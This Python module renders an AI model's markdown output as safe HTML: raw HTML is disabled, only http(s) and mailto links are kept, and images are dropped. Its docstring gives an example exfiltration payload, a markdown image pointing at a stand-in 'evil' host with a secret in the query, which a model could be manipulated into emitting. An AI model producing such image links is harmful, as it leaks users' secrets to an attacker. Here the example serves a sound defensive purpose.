"""Safe HTML for assistant markdown.

Model output is untrusted. It is rendered by markdown-it-py with raw HTML disabled (tags come
out as escaped text), and a link survives only if it is http(s) or mailto; any other
destination (`javascript:`, `data:`, relative paths) is left as inert text. Images are not
rendered: a model talked into emitting `![](https://evil/?q=<secret>)` would otherwise make
the visitor's browser fetch that URL on display, so an image comes out as `!` and a plain
link the visitor may choose to follow.

The dialect is CommonMark with GFM tables, strikethrough and autolinks (bare URLs and email
addresses, by linkify-it). The chat page renders answers while they stream with the
JavaScript markdown-it (`static/js/markdown.js`), of which markdown-it-py is a port, set up
the same way: both turn the same text into the same HTML (tests/test_markdown_parity.py).
A table column's alignment comes out as a class (`align-right`), not as the `style`
attribute markdown-it writes, which the pages' Content-Security-Policy refuses.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.token import Token

SAFE_LINK = re.compile(r"(?:https?|mailto):", re.IGNORECASE)
LINK_REL = "nofollow noopener noreferrer"
GFM_RULES = ["table", "strikethrough", "linkify"]


def is_safe_link(url: str) -> bool:
    """markdown-it hands over the URL normalised, with entities already decoded."""
    return SAFE_LINK.match(url) is not None


def _link_open(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    tokens[idx].attrSet("rel", LINK_REL)
    html: str = self.renderToken(tokens, idx, options, env)
    return html


def _cell_open(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    style = token.attrs.pop("style", None)
    if isinstance(style, str):
        token.attrSet("class", "align-" + style.removeprefix("text-align:"))
    html: str = self.renderToken(tokens, idx, options, env)
    return html


class SafeMarkdown(MarkdownIt):
    """CommonMark and GFM's tables, strikethrough and autolinks, without raw HTML or images,
    keeping only safe links."""

    def __init__(self) -> None:
        super().__init__("commonmark", {"html": False, "linkify": True})
        self.enable(GFM_RULES)
        self.disable("image")
        self.add_render_rule("link_open", _link_open)
        self.add_render_rule("th_open", _cell_open)
        self.add_render_rule("td_open", _cell_open)

    def validateLink(self, url: str) -> bool:  # markdown-it calls it by this name
        return is_safe_link(url)


_MARKDOWN = SafeMarkdown()


def markdown_html(text: str) -> str:
    html: str = _MARKDOWN.render(text)
    return html
